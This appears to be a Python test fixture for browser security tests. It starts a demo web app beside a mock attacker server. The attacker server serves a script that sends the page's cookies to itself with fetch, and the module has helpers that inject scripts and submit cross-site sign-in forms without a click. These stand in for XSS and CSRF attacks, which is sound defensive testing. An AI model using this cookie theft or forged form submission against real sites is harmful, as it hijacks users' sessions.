"""A browser, the demo server, and an attacker's server beside it: where a behaviour is tried."""

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from flask import Flask, request
from playwright.sync_api import Browser, Error, Page

from demo_server.demo_users import DEMO_USERS
from demo_server.notebook.live.demo_app import build_app
from tests.browser.conftest import WAIT_MS
from tests.browser.page_actions import expect_signed_in, sign_in
from tests.browser.recording_server import TOKENS, RecordedRequest, RecordingServer

STEAL = 'fetch("{}taken?" + document.cookie, {{mode: "no-cors"}})'


def attacker_app() -> Flask:
    """Make the attacker's app: an empty page, a script that steals, a page that sets a cookie."""
    app = Flask("attacker")

    @app.get("/")
    @app.get("/taken")
    def empty() -> str:
        return "<!doctype html><title>An attacker</title>"

    @app.get("/set")
    def set_cookie() -> tuple[str, dict[str, str]]:
        return empty(), {"Set-Cookie": request.args["cookie"]}

    @app.get("/thief.js")
    def stealing_script() -> tuple[str, dict[str, str]]:
        return STEAL.format(request.host_url), {"Content-Type": "text/javascript"}

    return app


@dataclass(frozen=True)
class Scenario:
    """A browser's page, the server under test, and an attacker's server beside it."""

    page: Page
    app: Flask
    server: RecordingServer
    attacker: RecordingServer

    def sign_in(self, host: str = "127.0.0.1") -> None:
        """Sign in as Alice."""
        self.page.goto(self.server.url.replace("127.0.0.1", host))
        sign_in(self.page)
        expect_signed_in(self.page)

    def submit_from(
        self, address: str, action: str, fields: Mapping[str, str] = {}, method: str = "post"
    ) -> RecordedRequest:
        """Let a page at ``address`` send a form to ``action``, here, without a click."""
        self.page.goto(address)
        with self.page.expect_navigation():
            self.page.evaluate(SUBMIT, [action, method, fields])
        return self.server.last_request(urlsplit(action).path)

    def post_from(self, address: str, name: str) -> RecordedRequest:
        """Let a page at ``address`` post the sign-in form of ``name`` without a click."""
        fields = {"id_give": name, "pw_give": DEMO_USERS[name]}
        return self.submit_from(address, f"{self.server.url}/sign_in", fields)

    def follow_from(self, address: str, target: str) -> None:
        """Follow a link to ``target`` on a page at ``address``."""
        self.page.goto(address)
        self.page.evaluate(APPEND, ["a", {"href": target, "textContent": "a link"}])
        with self.page.expect_navigation():
            self.page.get_by_role("link", name="a link").click()

    def inject(self, **script: str) -> None:
        """Put a script into the page, by its textContent or its src."""
        self.page.evaluate(APPEND, ["script", script])

    def kept_token(self) -> Any:
        """Return the cookie that opens the protected page, as the browser keeps it."""
        (kept,) = [one for one in self.page.context.cookies() if one["name"] in TOKENS]
        return kept


SUBMIT = """([action, method, fields]) => {
  const form = Object.assign(document.createElement("form"), { action, method });
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
}"""
APPEND = """([tag, fields]) =>
  document.body.append(Object.assign(document.createElement(tag), fields))"""


@contextmanager
def open_scenario(
    browser: Browser, version: str, settings: dict[str, Any], database: Path
) -> Iterator[Scenario]:
    """Start both servers, and give the browser's one page, without a cookie."""
    own = settings | {"DATABASE": str(database)}
    app = build_app(version, own, "/private", seeded=True)
    page, faults = page_without_cookies(browser), list[str]()

    def note(error: Error) -> None:
        faults.append(str(error))

    page.on("pageerror", note)
    with RecordingServer(app) as server, RecordingServer(attacker_app()) as attacker:
        yield Scenario(page, app, server, attacker)
        page.goto("about:blank")  # while the servers still answer
    page.remove_listener("pageerror", note)
    assert faults == []


def page_without_cookies(browser: Browser) -> Page:
    """Return the page of the scenarios: to open one each time takes longer than many of them."""
    if not browser.contexts:
        browser.new_context().set_default_timeout(WAIT_MS)
    (context,) = browser.contexts
    context.clear_cookies()
    return context.pages[0] if context.pages else context.new_page()
